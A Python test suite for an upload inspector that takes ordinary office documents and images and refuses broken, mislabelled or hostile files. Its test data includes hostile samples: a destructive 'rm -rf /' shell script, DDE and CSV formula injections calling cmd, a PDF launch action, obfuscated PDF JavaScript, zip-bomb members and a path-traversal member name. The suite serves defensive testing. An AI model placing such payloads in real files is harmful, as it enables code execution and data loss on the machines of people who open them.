"""Is every file judged by its bytes, harmless ones taken, harmful and broken ones refused in a sentence?"""

import io
import random
import re
import struct
import zipfile

import papers
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guatu.base.errors import Refused
from guatu.kernel.documents.acceptance import FOREIGN, KINDS, MEMBER_TEXTS, MEMBERS, PDF_NAMES, RULES
from guatu.kernel.documents.inspection import packages
from guatu.kernel.documents.inspection.judging import inspect

MEGABYTE = 1024 * 1024
WORD, SHEET, PDF = papers.word(), papers.sheet(), papers.pdf()


def code_of(name: str, content: bytes, limit: int = 30 * MEGABYTE) -> str:
    with pytest.raises(Refused) as refused:
        inspect(name, content, limit=limit)
    # A sentence, with what to do; nothing of its pattern left.
    assert len(refused.value.sentence) > 10
    assert "%(" not in refused.value.sentence
    return refused.value.code


TAKEN = [
    ("租赁合同.pdf", PDF, "pdf"),
    ("申请书.DOCX", WORD, "docx"),
    ("台账.xlsx", SHEET, "xlsx"),
    ("说明.txt", "场地租赁说明\n".encode(), "txt"),
    ("说明.txt", "场地租赁说明\n".encode("gb18030"), "txt"),
    ("说明.txt", "场地租赁说明\n".encode("utf-16"), "txt"),
    ("表.csv", "企业,产值\n星野,-12.5\n".encode("utf-8-sig"), "csv"),
    ("MZ01.txt", b"MZ-01 is the number of a plot\n", "txt"),
    ("批复.odt", papers.open_text("同意入驻"), "odt"),
    ("发票.ofd", papers.fixed_layout("电子发票"), "ofd"),
    ("旧.doc", papers.compound("WordDocument", "1Table"), "doc"),
    ("旧.wps", papers.compound("WordDocument"), "doc"),
    ("旧.xls", papers.compound("Workbook"), "xls"),
    ("旧.ppt", papers.compound("PowerPoint Document", "Current User"), "ppt"),
    ("现场.png", papers.png(), "png"),
    ("现场.jpg", papers.jpeg(), "jpeg"),
    ("现场.jpeg", papers.jpeg(thumbnail=True) + b"\x00trailer of a phone", "jpeg"),
    ("图.gif", papers.gif(), "gif"),
    ("图.webp", papers.webp(), "webp"),
    ("扫描.tiff", papers.tiff(), "tiff"),
]


@pytest.mark.parametrize(("name", "content", "kind"), TAKEN)
def test_what_an_office_works_with_is_taken(name, content, kind):
    found = inspect(name, content, limit=MEGABYTE)
    assert found.kind.code == kind
    assert found.warnings == ()


def test_pages_and_sizes_are_told():
    assert inspect("a.pdf", papers.pdf(pages=3), limit=MEGABYTE).sizes == ((595, 842),) * 3
    assert inspect("a.png", papers.png(40, 30), limit=MEGABYTE).sizes == ((40, 30),)
    assert inspect("a.jpg", papers.jpeg(640, 480), limit=MEGABYTE).sizes == ((640, 480),)
    assert inspect("a.webp", papers.webp(), limit=MEGABYTE).sizes == ((100, 50),)
    assert inspect("a.tif", papers.tiff(), limit=MEGABYTE).sizes == ((30, 20),)


SCRIPT = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
REL = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://far.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
LINK = REL.replace(b"attachedTemplate", b"hyperlink")
DDE = b'<w:document><w:instrText xml:space="preserve"> DDEAUTO cmd.exe</w:instrText></w:document>'
PROGRAM = b"MZ\x90\x00" + bytes(60) + b"!This program cannot be run in DOS mode.\r\n"

REFUSED = [
    # nothing, or not the whole
    ("a.pdf", b"", "empty"),
    ("a.txt", b" \r\n\xef\xbb\xbf", "empty"),
    ("a.pdf", PDF[: len(PDF) // 2], "broken"),
    ("a.docx", WORD[: len(WORD) // 2], "broken"),
    ("a.xlsx", SHEET[:-30], "broken"),
    ("a.png", papers.png(ending=False), "broken"),
    ("a.jpg", papers.jpeg(ending=False), "broken"),
    ("a.jpg", papers.jpeg(ending=False, thumbnail=True), "broken"),
    ("a.gif", papers.gif()[:-1], "broken"),
    ("a.doc", papers.compound("WordDocument")[:1536], "broken"),
    ("a.doc", papers.compound("WordDocument", more=bytes(9000))[:4000], "broken"),
    # another kind, or a name that does not agree
    ("合同.pdf", WORD, "wrong_ending"),
    ("合同.docx", PDF, "wrong_ending"),
    ("合同", PDF, "wrong_ending"),
    ("合同.pdf.exe", PDF, "wrong_ending"),
    ("a.jpg", papers.png(), "wrong_ending"),
    ("a.html", b"plain words", "wrong_ending"),
    ("a.bin", bytes(range(256)) * 20, "unknown"),
    ("a.zip", papers.archive({"合同.docx": WORD}), "archive"),
    ("a.docx", papers.archive({"a.txt": b"x"}), "archive"),
    ("a.rar", b"Rar!\x1a\x07\x00" + bytes(99), "archive"),
    ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(99), "archive"),
    ("a.rtf", b"{\\rtf1 hello}", "rich_text"),
    ("a.mp4", b"\x00\x00\x00\x18ftypmp42" + bytes(99), "media"),
    ("a.heic", b"\x00\x00\x00\x18ftypheic" + bytes(99), "other_picture"),
    ("a.msi", papers.compound("!_StringData"), "unknown"),
    # pages that a browser would run
    ("报表.xls", b"<html><table><tr><td>1</td></tr></table></html>", "web_page"),
    ("a.txt", b"<!-- quiet --><!-- still --> <script>alert(1)</script>", "web_page"),
    ("a.txt", b"<!-- no end", "web_page"),
    ("a.doc", b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n", "web_page"),
    ("a.svg", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "svg"),
    ("a.png", b"<svg onload='alert(1)'/>", "svg"),
    ("a.png", papers.png() + b"<script>alert(1)</script>", "two_in_one"),
    # programs
    ("a.pdf", PROGRAM, "program"),
    ("a.docx", b"\x7fELF" + bytes(99), "program"),
    ("a.txt", b"#!/bin/sh\nrm -rf /\n", "program"),
    ("a.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(99), "program"),
    ("a.txt", papers.EICAR, "test_virus"),
    ("a.docx", papers.with_members(WORD, word__media__x_dot_png=papers.EICAR), "test_virus"),
    ("a.pdf", papers.pdf_carrying(b"x.txt", papers.EICAR), "test_virus"),
    # what Office runs
    ("a.docx", papers.with_members(WORD, word__vbaProject_dot_bin=b"x"), "macros"),
    ("a.docx", papers.with_members(WORD, word__embeddings__oleObject1_dot_bin=PROGRAM), "program_inside"),
    ("a.docx", papers.with_members(WORD, word__media__run_dot_vbs=b"x"), "program_inside"),
    ("a.docx", papers.with_members(WORD, word__activeX__a_dot_xml=b"<x/>"), "controls"),
    ("a.docx", papers.with_members(WORD, word___rels__settings_dot_xml_dot_rels=REL), "remote_content"),
    ("a.docx", papers.with_members(WORD, word__document_dot_xml=DDE), "live_data"),
    (
        "a.docx",
        papers.with_members(WORD, word__bomb_dot_xml=b'<!DOCTYPE x [<!ENTITY a "aa">]><x/>'),
        "odd_package",
    ),
    ("a.docx", papers.with_members(WORD, word__x_dot_xml="<x/>".encode("utf-16")), "odd_package"),
    ("a.docx", papers.with_members(WORD, __etc__passwd=b"x"), "odd_package"),
    ("a.xlsx", papers.with_members(SHEET, xl__macrosheets__sheet1_dot_xml=b"<x/>"), "macros"),
    ("a.xlsx", papers.with_members(SHEET, xl__externalLinks__e_dot_xml=b"<x><ddeLink/></x>"), "live_data"),
    ("a.odt", papers.with_members(papers.open_text("x"), Basic__Standard__a_dot_xml=b"<x/>"), "macros"),
    ("a.doc", papers.compound("WordDocument", "_VBA_PROJECT"), "macros"),
    ("a.doc", papers.compound("WordDocument", "ObjectPool", more=PROGRAM), "program_inside"),
    ("a.xls", papers.compound("Workbook", more=b"\x85\x00\x0e\x00abcd\x00\x01\x06\x00macro1"), "macros"),
    ("a.csv", b"name,x\n=cmd|'/C calc'!A0,1\n", "live_data"),
    # what PDF runs
    ("a.pdf", papers.pdf(catalog=SCRIPT), "pdf_script"),
    ("a.pdf", papers.pdf(catalog=SCRIPT.replace(b"/S/JavaScript", b"/S/J#61vaScript")), "pdf_script"),
    ("a.pdf", papers.pdf_with_hidden_script(), "pdf_script"),
    ("a.pdf", papers.pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "pdf_launch"),
    ("a.pdf", papers.pdf_carrying(b"x.exe", PROGRAM), "program_inside"),
    # two kinds at once
    ("a.pdf", PDF + papers.archive({"x.html": b"x"}), "two_in_one"),
    ("a.png", papers.png() + papers.archive({"x.class": b"x"}), "two_in_one"),
    ("a.docx", WORD + b"%PDF-1.7 and more", "two_in_one"),
    ("a.gif", b"GIF89a\x01\x00\x01\x00%PDF-1.7" + bytes(20) + b";", "two_in_one"),
    # too much
    ("a.docx", papers.with_members(WORD, word__media__z_dot_png=bytes(40 * MEGABYTE)), "bomb"),
    ("a.png", papers.png(60_000, 60_000), "huge_picture"),
    # locked
    ("a.docx", papers.compound("EncryptionInfo", "EncryptedPackage"), "locked"),
    (
        "a.odt",
        papers.with_members(papers.open_text("x"), **{"META-INF__manifest_dot_xml": b"<encryption-data/>"}),
        "locked",
    ),
    ("a.doc", papers.compound("WordDocument", more=b"\xec\xa5\xc1\x00" + bytes(6) + b"\x00\x01"), "locked"),
    (
        "a.xls",
        papers.compound(
            "Workbook", more=b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(12) + b"\x2f\x00\x02\x00"
        ),
        "locked",
    ),
]


@pytest.mark.parametrize(
    ("name", "content", "code"), REFUSED, ids=[f"{n}-{c}-{i}" for i, (n, _b, c) in enumerate(REFUSED)]
)
def test_what_is_hostile_broken_or_foreign_is_refused_in_a_sentence(name, content, code):
    assert code_of(name, content) == code


def test_the_sentence_says_what_it_is_and_what_it_should_be_called():
    with pytest.raises(Refused, match=r"\.pdf.*Word.*\.docx|\.pdf.*\.docx"):
        inspect("合同.pdf", WORD, limit=MEGABYTE)


def test_a_file_beyond_the_limit_is_refused_before_it_is_looked_at():
    assert code_of("a.pdf", PDF + bytes(2 * MEGABYTE), limit=MEGABYTE) == "too_large"


WARNED = [
    ("发票.pdf", papers.pdf_carrying(b"invoice.xml", b"<invoice/>"), "pdf_attachments"),
    ("表单.pdf", papers.pdf(catalog=b"/AA<</WC<</S/SubmitForm/F(http://far.example)>>>>"), "pdf_sends"),
    ("a.docx", papers.with_members(WORD, word__embeddings__sheet_dot_xlsx=SHEET), "embedded_objects"),
    ("a.doc", papers.compound("WordDocument", "ObjectPool", "Workbook"), "embedded_objects"),
    ("a.csv", b"name,sum\nx,=A1+A2\n", "formulas"),
]


@pytest.mark.parametrize(("name", "content", "code"), WARNED)
def test_what_is_doubtful_is_taken_and_said(name, content, code):
    assert inspect(name, content, limit=MEGABYTE).warnings == (code,)


def test_a_link_to_a_page_is_no_remote_content():
    linked = papers.with_members(WORD, word___rels__document2_dot_xml_dot_rels=LINK)
    assert inspect("a.docx", linked, limit=MEGABYTE).warnings == ()


def test_words_of_a_text_are_no_programs_of_a_pdf():
    # What a PDF prints and how its bookmarks are called may speak of anything.
    said = papers.pdf(("How /JavaScript /Launch are found",), catalog=b"/Title(about /JavaScript)")
    assert inspect("a.pdf", said, limit=MEGABYTE).warnings == ()


def test_a_member_that_lies_about_its_size_is_counted_as_it_is(monkeypatch):
    monkeypatch.setattr(packages, "MAX_UNPACKED_BYTES", MEGABYTE)
    # The directory tells of 10 bytes; the packed data are 8 MB of zeros.
    honest = papers.with_members(WORD, word__media__z_dot_png=bytes(8 * MEGABYTE))
    size = struct.pack("<I", 8 * MEGABYTE)
    lying = honest.replace(size, struct.pack("<I", 10))
    assert lying != honest
    assert code_of("a.docx", lying) in ("bomb", "broken")


def test_too_many_members_and_twice_one_name(monkeypatch):
    monkeypatch.setattr(packages, "MAX_MEMBERS", 5)
    assert code_of("a.docx", WORD) == "bomb"
    monkeypatch.undo()
    first = papers.with_members(WORD, word__aaaa_dot_xml=b"<x/>", word__bbbb_dot_xml=b"<y/>")
    assert code_of("a.docx", first.replace(b"word/bbbb.xml", b"word/aaaa.xml")) == "odd_package"


def test_a_locked_package_is_told_from_a_damaged_one():
    locked = bytearray(WORD)
    for match in re.finditer(rb"PK\x01\x02", WORD):
        locked[match.start() + 8] |= 1
    assert code_of("a.docx", bytes(locked)) == "locked"


def test_a_damaged_member_is_found_by_its_checksum():
    buffer = io.BytesIO(WORD)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_STORED) as package:
        package.writestr("word/media/photo.png", b"a picture of the site" * 20)
    whole = buffer.getvalue()
    assert answer_to("a.docx", whole) == "docx"
    assert code_of("a.docx", whole.replace(b"picture of the site", b"picture of the sXte", 1)) == "broken"


def test_the_tables_hang_together():
    codes = {code for _at, _sign, code in FOREIGN} | set(PDF_NAMES.values())
    codes |= {code for _name, code in MEMBERS} | {code for _name, _text, code in MEMBER_TEXTS}
    assert codes <= set(RULES)
    endings = [ending for kind in KINDS.values() for ending in kind.endings]
    assert len(endings) == len(set(endings))
    assert not {".html", ".htm", ".svg", ".xml", ".js", ".exe", ".zip"} & set(endings)


STARTS = (b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff")
STARTS += (b"GIF89a", b"RIFF\x10\x00\x00\x00WEBP", b"II*\x00", b"MM\x00*", b"{\\rtf", b"<svg", b"\xff\xfe")


def answer_to(name: str, content: bytes) -> str:
    """The code of the refusal or the kind that it is; anything else that is raised fails the test."""
    try:
        return inspect(name, content, limit=MEGABYTE).kind.code
    except Refused as refused:
        return refused.code


@settings(max_examples=300, deadline=None)
@given(start=st.sampled_from(STARTS), rest=st.binary(max_size=3000), name=st.text(max_size=30))
def test_no_bytes_and_no_name_break_the_inspection(start, rest, name):
    assert answer_to(name, start + rest) in {*RULES, *KINDS}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    seed=st.integers(0, 2**32),
    which=st.sampled_from([WORD, SHEET, papers.compound("WordDocument"), papers.jpeg(), papers.tiff()]),
)
def test_no_damage_breaks_the_inspection(seed, which):
    chance = random.Random(seed)
    damaged = bytearray(which)
    for _change in range(chance.randint(1, 20)):
        damaged[chance.randrange(len(damaged))] = chance.randrange(256)
    del damaged[chance.randrange(len(damaged)) :]
    assert answer_to("a.docx", bytes(damaged)) in {*RULES, *KINDS}


@settings(max_examples=12, deadline=None)
@given(seed=st.integers(0, 2**32))
def test_no_damaged_pdf_breaks_the_inspection(seed):
    chance = random.Random(seed)
    damaged = bytearray(PDF)
    for _change in range(chance.randint(1, 40)):
        damaged[chance.randrange(10, len(damaged) - 7)] = chance.randrange(256)
    assert answer_to("a.pdf", bytes(damaged)) in {*RULES, *KINDS}
